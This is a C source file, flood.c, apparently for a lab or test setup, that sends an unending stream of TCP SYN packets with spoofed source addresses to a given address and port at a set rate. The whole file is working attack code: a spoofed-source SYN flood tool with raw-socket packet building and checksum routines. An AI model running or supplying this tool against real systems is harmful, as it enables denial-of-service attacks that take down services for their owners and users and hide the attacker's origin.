/*
 * flood.c - TCP SYNs from addresses that nobody has, until it is ended.
 *
 * usage: flood ADDRESS PORT FROM RATE      as root
 *
 * FROM is the first of 32,768 addresses; RATE is thousands a second: with more
 * than the wire holds, that is what is seen, and not what the guest does. Says
 * "flooding" after three seconds.
 */
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

struct packet {
    struct iphdr ip;
    struct tcphdr tcp;
};

/* The sum of 16-bit words [RFC 1071]. */
static uint32_t sum(const void *data, size_t n)
{
    uint32_t total = 0;
    uint16_t word;

    for (size_t i = 0; i < n; i += sizeof(word)) {
        memcpy(&word, (const char *)data + i, sizeof(word));
        total += word;
    }
    return total;
}

static uint16_t fold(uint32_t total)
{
    while (total >> 16)
        total = (total & 0xffff) + (total >> 16);
    return (uint16_t)~total;
}

static void make(struct packet *p, in_addr_t from, in_addr_t to, uint16_t port)
{
    uint32_t host = ntohl(from) + (uint32_t)(random() & 0x7fff);

    *p = (struct packet){
        .ip = {.version = 4,
               .ihl = 5,
               .ttl = 64,
               .protocol = IPPROTO_TCP,
               .tot_len = htons(sizeof(*p)),
               .saddr = htonl(host),
               .daddr = to},
        .tcp = {.source = htons((uint16_t)(1024 + random() % 60000)),
                .dest = htons(port),
                .seq = (uint32_t)random(),
                .doff = 5,
                .syn = 1,
                .window = htons(64240)},
    };
    p->ip.check = fold(sum(&p->ip, sizeof(p->ip)));
    p->tcp.check = fold(sum(&p->tcp, sizeof(p->tcp)) + sum(&p->ip.saddr, 8) +
                        htons(IPPROTO_TCP) + htons(sizeof(p->tcp)));
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = {.sin_family = AF_INET};
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    struct timespec next;
    struct packet p;
    in_addr_t from;
    long rate;

    if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
        inet_pton(AF_INET, argv[3], &from) != 1 || (rate = atol(argv[4])) < 1)
        errx(2, "usage: flood ADDRESS PORT FROM RATE");
    if (fd < 0)
        err(1, "raw socket");
    clock_gettime(CLOCK_MONOTONIC, &next);
    for (long ms = 0;; ms++) {
        for (long i = 0; i < rate; i++) {
            make(&p, from, to.sin_addr.s_addr, (uint16_t)atoi(argv[2]));
            if (sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to,
                       sizeof(to)) < 0 &&
                errno != ENOBUFS)
                err(1, "SYN");
        }
        if (ms == 3000)
            puts("flooding");
        fflush(stdout);
        next.tv_nsec += 1000000;
        next.tv_sec += next.tv_nsec / 1000000000;
        next.tv_nsec %= 1000000000;
        clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
    }
}
